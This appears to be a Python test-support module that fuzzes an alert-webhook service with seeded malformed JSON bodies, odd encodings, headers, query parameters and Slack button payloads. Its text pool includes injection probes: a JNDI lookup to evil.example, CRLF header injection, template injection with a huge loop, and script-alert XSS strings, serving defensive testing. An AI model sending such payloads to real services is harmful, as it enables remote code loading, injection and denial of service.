"""Bad input by the thousand, from a seed: what senders send by mistake, and what somebody sends on purpose."""

import gzip
import json
import random
import zlib
from collections.abc import Callable
from typing import Any

from tests.support.payloads import DATA

SAMPLES: list[Any] = [json.loads(path.read_text()) for path in sorted(DATA.glob("*.json"))]

# Where the text of a JSON value stands for what no Python value becomes.
_RAW = {
    "@huge@": "9" * 5000,
    "@minus@": "-" + "1" * 4400,
    "@exponent@": "1e999999",
    "@small@": "-0.0e-400",
    "@deep@": "[" * 3000 + "]" * 3000,
    "@deepest@": '{"a":' * 20_000 + "1" + "}" * 20_000,
    "@open@": "[" * 5000,
    "@twice@": '{"id": 1, "id": [], "id": {"id": "x"}, "status": "ok", "status": "firing"}',
    "@escape@": '"\\ud800 \\udc00 \\u0000"',
    "@cut@": '{"a',
    "@nothing@": "",
}
_WELL_FORMED = ["@huge@", "@minus@", "@exponent@", "@small@", "@deep@", "@deepest@", "@twice@", "@escape@"]

_TEXTS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\ud800",
    "x\udfffy",
    "\u202edcba",
    "\u2028",
    "\r\nX-Injected: 1",
    "😀" * 3000,
    "A" * 70_000,
    "<!channel> <https://evil.example|click> &amp; `*_~",
    "{{ 7 * 7 }}{% for i in range(10**9) %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "http://[broken",
    "https://a.example/" + "b" * 5000,
    "https://a.example/\n",
    "^ORsys_idISNOTEMPTY",
    "9999-12-31T23:59:59-12:00",
    "0001-01-01T00:00:00+23:59",
    "2026-02-30T25:61:61Z",
    "2026-05-04T10:20:00",
    "-271821-04-20T00:00:00Z",
    "2026-05-04T10:20:00." + "9" * 40 + "Z",
    "resolved",
    "firing",
    "ok",
    "UNDETERMINED",
    "INSUFFICIENT_DATA",
    "ALARM",
    "1",
    "4",
    "Notification",
)
_NUMBERS = (
    0,
    -1,
    1,
    2**31,
    2**53 + 1,
    2**63,
    2**64,
    -(2**70),
    10**300,
    1e308,
    5e-324,
    float("nan"),
    float("inf"),
    -0.0,
)
_KEYS = (
    *("labels", "annotations", "alerts", "status", "groupLabels", "groupKey", "truncatedAlerts", "version", "orgId"),
    *(
        "date",
        "log",
        "level",
        "kubernetes",
        "state",
        "metrics",
        "alarm_id",
        "alarm_name",
        "alarm_timestamp",
        "old_state",
    ),
    *("action", "data", "installation", "event", "issue", "metric_alert", "tags", "Type", "TopicArn", "MessageId"),
    *("old_state", "Message", "title", "id", "url", "startsAt", "severity", "", "\0", "\ud800", "__class__", "a" * 300),
)

GOOD: dict[str, Any] = {"title": "A good one", "severity": "warning"}


class Nasty:
    """A source of bad input; the same from the same seed."""

    def __init__(self, seed: str) -> None:
        self.random = random.Random(seed)

    def body(self) -> bytes:
        """The body of a request: from nearly right to not even JSON."""
        if self.random.random() < 0.02:
            return self._big()
        text = self.json_text()
        match self.random.randrange(8):
            case 0:
                return self.mutated(self._encoded(text))
            case 1:
                return self._encoded(text, self.random.choice(["utf-16", "utf-32", "utf-8-sig", "latin-1"]))
            case 2:
                return self._encoded("\n".join([text, self.json_text(), json.dumps(GOOD)]))
            case 3:
                return self.random.randbytes(self.random.randrange(200))
            case _:
                return self._encoded(text)

    def json_text(self) -> str:
        """JSON, or nearly: a sample with some of it changed, or anything."""
        value = self.value() if self.random.random() < 0.15 else self.payload()
        return self._written(value, list(_RAW))

    def element(self) -> str:
        """One well-formed JSON value, as an element of an array."""
        return self._written(self.payload() if self.random.random() < 0.7 else self.value(), _WELL_FORMED)

    def payload(self) -> Any:
        """A sample with some of its values, at any depth, replaced by others, added to, or taken away."""
        found = json.loads(json.dumps(self.random.choice(SAMPLES)))
        for _ in range(self.random.randrange(5)):
            place = self._place(found)
            if isinstance(place, dict):
                key = self.random.choice([*place, self.random.choice(_KEYS)])
                if self.random.random() < 0.2:
                    place.pop(key, None)
                else:
                    place[key] = self.value()
            elif place:
                place[self.random.randrange(len(place))] = self.value()
        return found

    def value(self, depth: int = 3) -> Any:
        """Anything that JSON can say."""
        kind = self.random.randrange(10 if depth else 7)
        if kind < 4:
            return self.text()
        if kind == 4:
            return self.random.choice(_NUMBERS)
        if kind == 5:
            return self.random.choice([None, True, False, [], {}])
        if kind == 6:
            return self.random.choice(list(_RAW)) if self.random.random() < 0.3 else self.random.randrange(10**9)
        size = self.random.randrange(4)
        if kind == 7:
            return [self.value(depth - 1) for _ in range(size)]
        return {self.random.choice(_KEYS): self.value(depth - 1) for _ in range(size)}

    def text(self) -> str:
        if self.random.random() < 0.7:
            return self.random.choice(_TEXTS)
        return "".join(chr(self.random.randrange(0x11_0000)) for _ in range(self.random.randrange(20)))

    def mutated(self, data: bytes) -> bytes:
        """Some bytes changed, taken away, doubled, or the end cut off."""
        changed = bytearray(data)
        for _ in range(self.random.randrange(1, 6)):
            at = self.random.randrange(len(changed) + 1)
            end = min(len(changed), at + self.random.randrange(1, 20))
            match self.random.randrange(4):
                case 0:
                    changed[at:end] = self.random.randbytes(end - at)
                case 1:
                    del changed[at:end]
                case 2:
                    changed[at:at] = changed[at:end]
                case _ if self.random.random() < 0.3:
                    del changed[at:]
        return bytes(changed)

    def compressed(self, body: bytes) -> tuple[str, bytes]:
        """A Content-Encoding, and a body that goes with it or not."""
        ways: dict[str, Callable[[bytes], bytes]] = {"gzip": gzip.compress, "deflate": zlib.compress}
        name = self.random.choice([*ways, "br", "zstd", "identity", "x-gzip", "gzip, gzip", "none", "\x80"])
        sent = ways.get(name, bytes)(body)
        return name, self.mutated(sent) if self.random.random() < 0.5 else sent

    def header(self) -> str:
        """What a header may hold as far as HTTP goes."""
        usual = ["text/html", "application/json", "*/*;q=NaN", "text/html;q=9" * 50, "application/json; charset=\xff"]
        odd = "".join(chr(self.random.choice([*range(0x20, 0x7F), *range(0xA0, 0x100)])) for _ in range(30))
        return self.random.choice([*usual, "multipart/form-data", "a" * 4000, ",;=", odd])

    def query(self) -> list[tuple[str, str]]:
        """Parameters, known or not."""
        names = [
            *("oncall_enable", "oncall_wait_minutes", "servicenow_other_instance", "slack_channel_id", "source"),
            *("incident_per", "limit", "cursor", "status", "by", "minutes", "exp", "sig", "oncall_enabel", "", "\0"),
        ]
        odd = ("nan", "inf", "-1", "1e400", "9" * 4500, "٣", "true", "alert", "generic", "sentry", "C0X", "%", "+")
        return [
            (self.random.choice(names), self.random.choice([*odd, self.text()[:2000]]))
            for _ in range(self.random.choice([0, 0, 1, 2, 30]))
        ]

    def interaction(self) -> dict[str, Any]:
        """A press, with some of it changed."""
        user = {"id": "U0ANA", "username": "ana", "name": "ana", "team_id": "T0"}
        container = {"type": "message", "message_ts": "1777890000.000100", "channel_id": "C0ALERTS"}
        action = {"action_id": "acknowledge", "value": "0f3c1a2b4d5e6f708192-3", "action_ts": "1777890001.000200"}
        press = {"type": "block_actions", "user": user, "container": container, "actions": [action]}
        if self.random.random() < 0.3:
            action["action_id"] = "snooze"
            press["actions"] = [action | {"selected_option": {"value": f"{action['value']} {self.text()[:30]}"}}]
        for _ in range(self.random.randrange(4)):
            place: dict[str, Any] = self.random.choice([press, user, container, action])
            place[self.random.choice([*place, "selected_option", "response_url", "message"])] = self.value()
        return press

    def _place(self, found: Any) -> Any:
        """Some object or list in it."""
        while True:
            children = list(found.values()) if isinstance(found, dict) else found
            inner = [it for it in children if isinstance(it, dict | list)]
            if not inner or self.random.random() < 0.4:
                return found
            found = self.random.choice(inner)

    def _written(self, value: Any, raw: list[str]) -> str:
        text = json.dumps(value, ensure_ascii=self.random.random() < 0.5)
        for name in raw:
            if name in text:
                text = text.replace(f'"{name}"', _RAW[name], 1)
        return text

    def _encoded(self, text: str, encoding: str = "utf-8") -> bytes:
        return text.encode(encoding, errors="replace" if encoding == "latin-1" else "surrogatepass")

    def _big(self) -> bytes:
        """Small things in great numbers."""
        count = self.random.choice([2_000, 30_000])
        match self.random.randrange(5):
            case 0:
                return b'{"groupLabels":{},"alerts":[' + b",".join([b"{}"] * count) + b"]}"
            case 1:
                return json.dumps({"title": "x", "labels": {f"l{number}": "" for number in range(count)}}).encode()
            case 2:
                return b"[" + b",".join([b"{}"] * count) + b"]"
            case 3:
                return b"{}" * count
            case _:
                return b'{"title":"' + b"\\u0000" * count + b'"}'
